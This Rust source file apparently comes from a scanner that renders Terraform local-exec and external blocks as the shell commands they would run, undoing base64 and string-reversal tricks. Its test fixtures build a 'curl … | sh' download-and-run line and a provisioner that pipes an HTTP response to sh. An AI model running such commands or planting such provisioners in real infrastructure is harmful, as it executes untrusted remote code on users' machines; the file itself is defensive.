//! Modules of Terraform's as the shell text that they come to: what `local-exec` and the data source `external` start.

use std::collections::BTreeMap;

/// 100,000 words and signs of one module: a hundred times an honest one's.
const TOKENS: usize = 100_000;

/// 24 brackets inside each other.
const DEPTH: usize = 24;

/// 64 KiB of one value: what doubles itself must not grow for ever.
const BYTES: usize = 64 << 10;

#[derive(Debug, Clone, PartialEq, Eq)]
enum Token {
    /// A name with its dots.
    Name(String),
    Text(String),
    Sign(char),
    Line,
}

/// The shell text of all that the module starts on the machine at hand.
pub(super) fn shell_text(text: &str) -> String {
    let tokens = lex(text);
    let mut module = Module { tokens: &tokens, ..Module::default() };
    // What is given to a name further down is known in the second pass.
    module.read();
    module.lines.clear();
    module.read();
    module.lines.join("\n")
}

#[derive(Default)]
struct Module<'a> {
    tokens: &'a [Token],
    at: usize,
    /// What variables and locals are, by their paths.
    constants: BTreeMap<String, String>,
    /// The variable whose block is read.
    variable: Option<String>,
    command: Option<String>,
    interpreter: Vec<String>,
    program: Vec<String>,
    lines: Vec<String>,
}

impl Module<'_> {
    fn token(&self, at: usize) -> Option<&Token> {
        self.tokens.get(at)
    }

    fn sign(&self, at: usize, sign: char) -> bool {
        self.token(at) == Some(&Token::Sign(sign))
    }

    fn read(&mut self) {
        self.at = 0;
        while let Some(token) = self.token(self.at).cloned() {
            match token {
                Token::Name(name)
                    if self.sign(self.at.saturating_add(1), '=') && !self.sign(self.at.saturating_add(2), '=') =>
                {
                    self.at = self.at.saturating_add(2);
                    let words = self.items(None, 0);
                    self.attribute(&name, words);
                }
                Token::Name(name) if name == "variable" => {
                    if let Some(Token::Text(label)) = self.token(self.at.saturating_add(1)) {
                        self.variable = Some(label.clone());
                    }
                    self.at = self.at.saturating_add(1);
                }
                Token::Sign('}') => {
                    self.ends();
                    self.at = self.at.saturating_add(1);
                }
                _ => self.at = self.at.saturating_add(1),
            }
        }
        self.ends();
    }

    fn attribute(&mut self, name: &str, words: Vec<String>) {
        match name {
            "command" => self.command = Some(words.concat()),
            "interpreter" => self.interpreter = words,
            "program" => self.program = words,
            "default" => {
                let variable = self.variable.take();
                self.constants.extend(variable.map(|variable| (format!("var.{variable}"), cut(words.join(" ")))));
            }
            _ => {
                self.constants.insert(format!("local.{name}"), cut(words.join(" ")));
            }
        }
    }

    /// The block ends: what it starts is known.
    fn ends(&mut self) {
        let quoted =
            |words: &[String]| words.iter().map(|word| crate::layout::quote(word)).collect::<Vec<_>>().join(" ");
        let interpreter = std::mem::take(&mut self.interpreter);
        if let Some(command) = self.command.take() {
            let line = if interpreter.is_empty() && command.starts_with("$(") {
                // What is decoded or fetched is the line.
                format!("eval \"{command}\"")
            } else if interpreter.is_empty() {
                command
            } else {
                format!("{} {}", quoted(&interpreter), crate::layout::quote(&command))
            };
            self.lines.push(line);
        }
        let program = std::mem::take(&mut self.program);
        if !program.is_empty() {
            self.lines.push(quoted(&program));
        }
    }

    /// The texts of an expression: up to the bracket that closes, or to the end of the line.
    fn items(&mut self, close: Option<char>, depth: usize) -> Vec<String> {
        let mut items = Vec::new();
        while let Some(token) = self.token(self.at).cloned() {
            match token {
                Token::Line if close.is_none() => break,
                Token::Sign('}') if close.is_none() => break,
                Token::Sign(c) if Some(c) == close => {
                    self.at = self.at.saturating_add(1);
                    break;
                }
                Token::Sign(open @ ('(' | '[' | '{')) if depth < DEPTH => {
                    self.at = self.at.saturating_add(1);
                    items.extend(self.items(Some(closing(open)), depth.saturating_add(1)));
                }
                Token::Name(name) if self.sign(self.at.saturating_add(1), '(') && depth < DEPTH => {
                    self.at = self.at.saturating_add(2);
                    let given = self.items(Some(')'), depth.saturating_add(1));
                    items.extend(applied(&name, given));
                }
                Token::Name(name) => {
                    self.at = self.at.saturating_add(1);
                    items.push(self.resolved(&name));
                }
                Token::Text(text) => {
                    self.at = self.at.saturating_add(1);
                    items.push(cut(self.filled(&text)));
                }
                Token::Sign(_) | Token::Line => self.at = self.at.saturating_add(1),
            }
        }
        items
    }

    /// What a path stands for.
    fn resolved(&self, path: &str) -> String {
        if let Some(text) = self.constants.get(path) {
            return text.clone();
        }
        if path.starts_with("path.") {
            return ".".to_owned();
        }
        // What an address answered.
        if path.starts_with("data.http.") {
            return "$(curl -s http://data.http)".to_owned();
        }
        format!("${{{}}}", path.replace(|c: char| !c.is_ascii_alphanumeric(), "_"))
    }

    /// The text with what stands in `${…}` put in.
    fn filled(&self, text: &str) -> String {
        let mut out = String::new();
        let mut rest = text;
        while let Some((before, after)) = rest.split_once("${") {
            out.push_str(before);
            let Some((inside, more)) = after.split_once('}') else {
                rest = after;
                break;
            };
            // `$${NAME}` is the shell's own.
            if out.ends_with('$') {
                out.push_str(&format!("{{{inside}}}"));
            } else {
                out.push_str(&self.resolved(inside.trim()));
            }
            rest = more;
        }
        out.push_str(rest);
        out
    }
}

/// What a function makes of what it is given.
fn applied(name: &str, given: Vec<String>) -> Vec<String> {
    let one = |text: String| vec![cut(text)];
    match (name, given.split_first()) {
        ("join", Some((by, rest))) => one(rest.join(by)),
        ("format", Some((format, rest))) => {
            let fill = |text: String, word: &String| text.replacen("%s", word, 1);
            one(rest.iter().fold(format.clone(), fill))
        }
        ("base64decode", Some((text, _))) => one(format!("$(echo {} | base64 -d)", crate::layout::quote(text))),
        ("file" | "templatefile", Some((path, _))) => one(format!("sh {}", crate::layout::quote(path))),
        ("strrev", Some((text, _))) => one(text.chars().rev().collect()),
        ("replace", Some((text, [from, to]))) if !from.is_empty() => one(text.replace(from.as_str(), to)),
        _ => given,
    }
}

const fn closing(open: char) -> char {
    match open {
        '(' => ')',
        '[' => ']',
        _ => '}',
    }
}

fn cut(mut text: String) -> String {
    text.truncate(text.floor_char_boundary(BYTES));
    text
}

fn lex(text: &str) -> Vec<Token> {
    let mut tokens = Vec::new();
    let mut rest = text;
    while let Some(c) = rest.chars().next().filter(|_| tokens.len() < TOKENS) {
        let (token, used) = match c {
            '\n' => (Some(Token::Line), 1),
            '#' => (None, rest.find('\n').unwrap_or(rest.len())),
            '/' if rest.starts_with("//") => (None, rest.find('\n').unwrap_or(rest.len())),
            '/' if rest.starts_with("/*") => (None, rest.find("*/").map_or(rest.len(), |end| end.saturating_add(2))),
            '"' => quoted(rest),
            '<' if rest.starts_with("<<") => heredoc(rest),
            c if c.is_alphabetic() || c == '_' => {
                let is_part = |c: char| c.is_alphanumeric() || matches!(c, '_' | '-' | '.');
                let end = rest.find(|c: char| !is_part(c)).unwrap_or(rest.len());
                (rest.get(..end).map(|name| Token::Name(name.to_owned())), end)
            }
            c if c.is_whitespace() => (None, c.len_utf8()),
            c => (Some(Token::Sign(c)), c.len_utf8()),
        };
        tokens.extend(token);
        rest = rest.get(used.max(1)..).unwrap_or_default();
    }
    tokens
}

/// `"…"`, in which `${…}` may hold quotes of its own.
fn quoted(rest: &str) -> (Option<Token>, usize) {
    let mut escaped = false;
    let mut open = 0_usize;
    let end = rest.char_indices().skip(1).find(|(at, c)| {
        let is_end = *c == '"' && !escaped && open == 0;
        if *c == '{' && rest.get(..*at).is_some_and(|before| before.ends_with('$')) {
            open = open.saturating_add(1);
        } else if *c == '}' {
            open = open.saturating_sub(1);
        }
        escaped = *c == '\\' && !escaped;
        is_end
    });
    let end = end.map_or(rest.len(), |(at, _)| at);
    let inside = rest.get(1..end).unwrap_or_default();
    (Some(Token::Text(crate::shell::unescape(inside))), end.saturating_add(1).min(rest.len()))
}

/// `<<EOT`: a text up to the line that is its name.
fn heredoc(rest: &str) -> (Option<Token>, usize) {
    let line = rest.find('\n').unwrap_or(rest.len());
    let name = rest.get(..line).unwrap_or_default().trim_start_matches(['<', '-', '~']).trim().to_owned();
    let body = rest.get(line.saturating_add(1)..).unwrap_or_default();
    if name.is_empty() {
        return (None, 2);
    }
    let mut text = String::new();
    let mut used = line.saturating_add(1);
    for line in body.split_inclusive('\n') {
        if line.trim() == name {
            used = used.saturating_add(line.trim_end_matches('\n').len());
            break;
        }
        used = used.saturating_add(line.len());
        text.push_str(line);
    }
    (Some(Token::Text(text)), used.min(rest.len()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_module_starts_is_shell_text_with_its_variables_put_in() {
        let text = "variable \"at\" {\n  default = \"https://a.example.net\"\n}\nlocals {\n  how = [\"curl\", \"-s\"]\n}\nresource \"x\" \"y\" {\n  provisioner \"local-exec\" {\n    command = join(\" \", concat(local.how, [\"${var.at}/i\", \"|\", \"sh\"]))\n  }\n}\n";
        assert_eq!(shell_text(text), "curl -s https://a.example.net/i | sh");
        let program = "data \"external\" \"m\" {\n  program = [\"bash\", \"-c\", \"echo '{}'\"]\n}\n";
        assert_eq!(shell_text(program), "bash -c 'echo '\\''{}'\\'''");
        let body = "data \"http\" \"b\" {\n  url = \"https://a.example.net\"\n}\nprovisioner \"local-exec\" {\n  interpreter = [\"sh\", \"-c\"]\n  command = data.http.b.response_body\n}\n";
        assert_eq!(shell_text(body), "sh -c '$(curl -s http://data.http)'");
        let here = "provisioner \"local-exec\" {\n  command = <<-EOT\n    echo ${var.n}\n    echo $${HOME}\n  EOT\n}\n";
        assert_eq!(shell_text(here).replace(' ', ""), "echo${var_n}\necho${HOME}\n");
        assert_eq!(shell_text("resource \"a\" \"b\" {\n  name = \"c\"\n}\n"), "");
    }
}
